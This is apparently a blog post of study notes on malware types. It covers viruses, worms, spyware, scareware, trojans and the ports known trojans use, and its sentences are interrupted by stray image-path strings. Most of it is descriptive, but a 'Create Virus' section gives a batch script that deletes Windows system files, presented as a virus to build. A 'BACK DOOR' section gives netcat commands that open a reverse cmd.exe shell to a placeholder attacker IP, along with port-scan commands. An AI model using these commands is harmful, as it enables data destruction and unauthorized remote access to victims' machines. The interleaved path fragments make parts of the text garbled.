N I L A D I C پنجشنبه 16 شهریور 1396 01:07 ب.ظ نظرات ()
In this chapter, we will talk a little bit about malwares and malware's type.

What is MALWARE?
Malicious software ( softwares to malicious and disruptive actions ... perform actions without consent )
Software in this class was able to infect, disrupt, disable, and in some cases corrupt, software, including the operating system, steal info

*** Malware types:
    - Viruses
    - Worms
    - Trojan horses
    - Rootkits
    - Spywares
    - Adware
# Viruses:
self-replicating and attach itself to other executable applications
    - what can do?
    ¦ Altering data
    ¦ Infecting other programs
    ¦ Replicating
    ¦ Encrypting itself
    ¦ Transforming itself into another form
    ¦ Altering configuration settings
    ¦ Destroying data
    ¦ Corrupting or destroying hardware

* some viruses:
- Wabbit viruses: 1970 can replicating over and over until system crashed
- first logic bomb in 1987 ...Jerusalem    .... was designed to cause damage only on a certain date
- polymorphic viruses first in 1992 ... way to detect early
- metamorphic ... completely rewrite themselves on each infection

* kinds of viruses:
- system boot sector viruses:
infect and place its own code into MBR(master boot record) of a system ... virus or other code can be run before the system itself
    -- problems:
    startup problems, problems with retrieving data, computer performance instability, and the inability to locate hard drives
- macro viruses:
in apps like excel and word we have macros that are designed to automate functions and create net process
macros are easy to abuse
    -- problems:
    once macro is run it can do all sort of things such as change a system configuration to decrease security
    or read a user’s address book and e-mail itself to others

- cluster viruses:
This virus alters the file-allocation tables on a storage device and when a user runs a given application
the virus runs before the system executes the actual file### NOTE: Drive repairs are not useful for this type and even can destroy sections of drive

- encryption viruses:
they can avoid detection
This virus changes its program code, making it nearly impossible to
detect using normal means. It uses an encryption algorithm to encrypt and decrypt the
virus multiple times as it replicates and infects. Each time the infection process occurs,
a new encryption sequence takes place with different settings, making it difficult for
antivirus software to detect the problem-- stealth
-- file-overwriting viruses:
like Stealth but hide in a host file without changing the host file’s

-- Sparse-infector viruses:
avoid detection by carrying out their infectious actions only
periodic, such as on every 10th or 25th activation

-- companion viruses:
compromises a feature of OSs that enables software
with the same name, but different extensions, to operate with different priorities

-- logic bomb:
Logic bombs have been notoriously difficult to detect because they
do not look harmful until they are activated

-- multipartite viruses
-- shell viruses: have subroutines that run after virus in shell
-- crypto viruses:
hunt for files or certain types of data on a system and then encrypt it
and the victim for unlocking the app should contact with virus creator and pay for key

***** Create Virus:
format windows:
    @echo off
    Del c:\windows\system32\*.*
    Del c:\windows\*.*
save with name.bat and convert to com file  " use bat2com to convert name.bat into name.com "

or we can use JPS virus maker for creating simple viruses...

# Worm:

Worms effectively use the power of networks, malware, and speed to spread very dangerous and effective pieces of malware

- worms common features:
¦ Do not require a host application to perform their activities
¦ Do not necessarily require any user interaction, direct or otherwise, to function
¦ Replicate extremely rapidly across networks and hosts
¦ Consume bandwidth and resources

# Spyware:
designed to collect and forward information regarding avictim’s activities to an interested party

- How Spywares Will infection:
    . peer-to-peer networks : there are more individual that uses systems
    . Instant Messaging: can use easily to share and send viruses
    . Internet Relay Chat
    . e-mail attachments
    . physical access
    . browser defects(bugs)
    . download freeware
    . websites
# Adware:
it displays ads, pop-ups, and may even change the start page of the browser

# Scareware:
scaring people from something that is in their system and make them buy the utility to clean that and use credit cards ...

#Trojans:
Trojan is a software application that is designed to provide covert access to
a victim’s system

- what Trojans can do?
    ¦ The CD drawer of a computer opens and closes.
    ¦ The computer screen changes, either flipping or inverting.
    ¦ Screen settings change by themselves.
    ¦ Documents print with no explanation.
    ¦ The browser is redirected to a strange or unknown web page.
    ¦ The Windows color settings change.
    ¦ Screen saver settings change.
    ¦ The right and left mouse buttons reverse their functions.
    ¦ The mouse pointer disappears.
    ¦ The mouse pointer moves in unexplained ways.
    ¦ The Start button disappears.
    ¦ Chat boxes appear on the infected system.
    ¦ The Internet service provider (ISP) reports that the victim’s computer is running port scans.
    ¦ People chatting with you appear to know detailed personal information.
    ¦ The system shuts down by itself.
    ¦ The taskbar disappears.
    ¦ Account passwords are changed.
    ¦ Legitimate accounts are accessed without authorization.
    ¦ Unknown purchase statements appear in credit card bills.
    ¦ Modems dial and connect to the Internet by themselves.
    ¦ Ctrl+Alt+Del stops working.
    ¦ When the computeris rebooted, a message states that other users are still connected.
- what can do by a hacker on target?
    ¦ Stealing data
    ¦ Installing software
    ¦ Downloading or uploading files
    ¦ Modifying files
    ¦ Installing keyloggers
    ¦ Viewing the system user’s screen
    ¦ Consuming computer storage space
    ¦ Crashing the victim’s system
- mechanism:
trojans use 2 channel .. one OVERT and one COVERT
overt for send info for other actions
covert for transmit info

* type of Trojans:
    ¦ Remote access Trojans (RATs) — Designed to give an attacker remote control over avictim’s system. Two well-known members of this class are SubSeven  Back Orifice
    ¦ Data sending — Keyloggers are common Trojans of this type.
    ¦ Destructive — This type of Trojan seeks to corrupt, erase, or destroy data outright on a system.
    ¦ Proxy — Malware of this type causes a system to be used as a proxy by the attacker.
    ¦ FTP — designed to set up the infected system as an FTP server
    ¦ Security software disablers
 some of them uses the special port and we can detect them
¦ Back Orifice: UDP 31337 or 31338¦ Back Orifice 2000: TCP/UDP 54320/54321
¦ Beast: TCP 6666
¦ Citrix ICA: TCP/UDP 1494
¦ Deep Throat: UDP 2140 and 3150
¦ Desktop Control: UDP NA
¦ Donald Dick: TCP TCP 23476/23477
¦ Loki: Internet Control Message Protocol (ICMP)
¦ NetBus: TCP 12345 and 12346
¦ Netcat: TCP/UDP (any)
¦ NetMeeting Remote: TCP 49608/49609
¦ pcAnywhere: TCP 5631/5632/65301
¦ Reachout: TCP 43188
¦ Remotely Anywhere: TCP 2000/2001
¦ Remote: TCP/UDP 135-1139¦ Whack-a-Mole: TCP 12361 and 12362
¦ NetBus 2 Pro: TCP 20034
¦ GirlFriend: TCP 21544
¦ Masters Paradise: TCP 3129, 40421, 40422, 40423, and 40426
¦ Timbuktu: TCP/UDP 407
¦ VNC: TCP/UDP 5800/5801

* how do that?
NETSTAT ... its windows tool
netstat –an

or we can use a sniffer

***** BACK DOOR:

nc -n -v -l -p 80   /// from attacker system
nc -n hackers_ip 80 -e "cmd.exe"   ///from victim sys

/// nc port scan:
    nc -v -z -w1 IPaddress <start port> - <ending port>Nc -l -p [port] ///// simple listenin tcp port  .... with -u wecan use udp port

Nc –d  /// detach(jodakardan) nc from console
Nc -e [program] /// Redirects stdin/stdout from a programProgram | nc   //// program output to nc
Nc | program //// ncoutput toprogram
Nc -z   ////// used for port scanning